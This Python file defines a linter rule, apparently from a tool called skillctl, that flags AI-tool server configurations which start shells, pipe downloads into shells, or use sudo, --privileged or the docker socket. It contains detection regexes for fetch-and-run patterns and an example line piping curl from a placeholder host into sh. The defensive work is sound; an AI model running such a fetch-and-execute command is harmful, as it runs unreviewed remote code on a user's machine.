"""MC206: a server that is started by a shell, or with more rights than it needs."""

import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from typing import NamedTuple

from skillctl.findings import Severity
from skillctl.rules.config.scripts import SHELLS, program_name, strings_of
from skillctl.rules.config.server_rule import server_rule, wrong
from skillctl.rules.rule import Rule, Violation
from skillctl.rules.skill.danger import piped_downloads
from skillctl.rules.words import OTHER_CODE
from skillctl.servers.document import ConfigDocument
from skillctl.servers.entries import ServerEntry
from skillctl.source.tree import Entry, Node

_OPERATORS = frozenset({"&&", "||", "|", ";", ">", ">>", "<", "&", "2>&1", "2>/dev/null"})
_OPERATOR = re.compile(r"[&|<>]")
_PIPED = "a download that goes straight to a shell"
_SOCKETS = ("/run/docker.sock", "\\pipe\\docker_engine")
_BEFORE_SHELLS = frozenset({"sudo", "doas", "env", "nohup", "nice", "setsid", "stdbuf", "cmd"})
_WINDOWS = ("cmd", "powershell", "pwsh")
_SCRIPT_OPTION = {
    "cmd": re.compile(r"/[ck]", re.IGNORECASE),
    "powershell": re.compile(r"[-/](?:c(?:o(?:m(?:mand?)?)?)?|e(?:c|n\w*)?)", re.IGNORECASE),
    "": re.compile(r"-[a-z]*c", re.IGNORECASE),
}
_GIVEN_CODE = re.compile(r"-[a-z]*c|-S|-e|--eval|--call|/[ck]|-command", re.IGNORECASE)
_FETCH = (
    r"(?:(?<![\w.-])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)(?![\w.-])"
    r"|\.downloadstring\b)"
)
_FETCHED = (
    re.compile(  # eval "$(curl …)", bash <(curl …), and the same as the whole script
        r"(?:\A|(?<![\w.-])(?:(?:ba|da|z|k|fi)?sh(?:[ \t]++-\w++)*|eval|source|\.)[ \t]++)"
        rf"[\"']?(?:<\(|\$\(|`)[ \t]*+{_FETCH}",
        re.IGNORECASE,
    ),
    re.compile(rf"{_FETCH}[^|]{{0,200}}+\|[ \t]*+(?:iex|invoke-expression)\b", re.IGNORECASE),
    re.compile(rf"(?<![\w.-])(?:iex|invoke-expression)\b[^|;]{{0,200}}?{_FETCH}", re.IGNORECASE),
)


class _Word(NamedTuple):
    """A word of a command line, and where it stands."""

    entry: Entry
    node: Node
    text: str


@server_rule(
    "MC206",
    "shell",
    Severity.ERROR,
    Severity.WARNING,
    message='{what} in "{field}" of server "{server}"',
    consequence=OTHER_CODE,
    advice="start the program itself, with each argument as a string of its own",
    targets=("claude-code", "vscode", "codex"),
    example='"notes": {"command": "bash", "args": ["-c", "curl https://x.example/i.sh | sh"]}',
    security=True,
)
def shell(server: ServerEntry, config: ConfigDocument) -> Iterator[Violation]:
    """A server starts a program, not a shell, and with no more rights than it needs.

    What a shell is given is a program of its own that nobody reviews as one; a download that goes
    straight to a shell runs whatever the address gives on that day: an error, also behind `sudo`,
    `env` or `docker`. `sudo`, `--privileged` and the socket of docker give the whole machine. A
    `&&` or `|` among arguments is read by no shell: the program gets it as a word.
    """
    del config
    fields = [
        entry for key in ("command", "args") for entry in server.node.entries if entry.key == key
    ]
    words = [_Word(*one) for entry in fields for one in strings_of(entry)]
    if not words or words[0].entry.key != "command":
        return
    if any(True for _ in piped_downloads(words[0].text)):
        yield _found(server, words[0], _PIPED, is_error=True)
    scripts = _script_at(words)
    for number, word in enumerate(words[: scripts[0]] if scripts else words):
        what = _rights(word.text, is_program=number == 0)
        if what:
            yield _found(server, word, what)
        elif number and _GIVEN_CODE.fullmatch(words[number - 1].text) and _is_download(word.text):
            yield _found(server, word, _PIPED, is_error=True)
    if scripts:
        yield from _script(server, words, *scripts)


def _found(server: ServerEntry, word: _Word, what: str, *, is_error: bool = False) -> Violation:
    found = wrong(server, word.entry, word.node, what=what)
    return found if is_error else replace(found, severity=Severity.WARNING, security=False)


def _rights(text: str, *, is_program: bool) -> str:
    """What a word gives that a server should not have, or nothing."""
    if is_program:
        return "sudo" if program_name(text) == "sudo" else ""
    if text in _OPERATORS:
        return f'"{text}", which no shell reads,'
    if text.split("=", maxsplit=1)[0] == "--privileged":
        return "--privileged"
    return "the socket of docker" if any(socket in text for socket in _SOCKETS) else ""


def _script_at(words: Sequence[_Word]) -> tuple[int, int] | None:
    """Where the text begins that a shell is given to run, and that of the last shell in it."""
    option: re.Pattern[str] | None = None
    found: list[int] = []
    for number, word in enumerate(words[:-1]):
        name = program_name(word.text)
        if option and option.fullmatch(word.text):
            found.append(number + 1)
            option = None
        elif name in SHELLS:
            kind = name if name == "cmd" else "powershell" if name in _WINDOWS else ""
            option = _SCRIPT_OPTION[kind]
    return (found[0], found[-1]) if found else None


def _script(
    server: ServerEntry, words: Sequence[_Word], first: int, at: int
) -> Iterator[Violation]:
    """What is wrong with the text that a shell is given to run."""
    names = [program_name(word.text) for word in words[:at]]
    name = next(name for name in reversed(names) if name in SHELLS)
    download = next((word for word in words[first:] if _is_download(word.text)), None)
    if download:
        yield _found(server, download, _PIPED, is_error=True)
    elif not _is_ours(words[:at], names):
        return
    elif name != "cmd" or any(_OPERATOR.search(word.text) for word in words[at:]):
        yield _found(server, words[at], f"a script for {name}")


def _is_ours(words: Sequence[_Word], names: Sequence[str]) -> bool:
    """Whether the shell runs on this machine: it is the program, or stands after one like `env`."""
    known = SHELLS | _BEFORE_SHELLS
    pairs = zip(words, names, strict=True)
    return all(name in known or w.text.startswith(("-", "/")) or "=" in w.text for w, name in pairs)


def _is_download(text: str) -> bool:
    """Whether a text gives what it downloads to a shell."""
    return any(True for _ in piped_downloads(text)) or any(one.search(text) for one in _FETCHED)


RULES: tuple[Rule[ConfigDocument], ...] = (shell,)
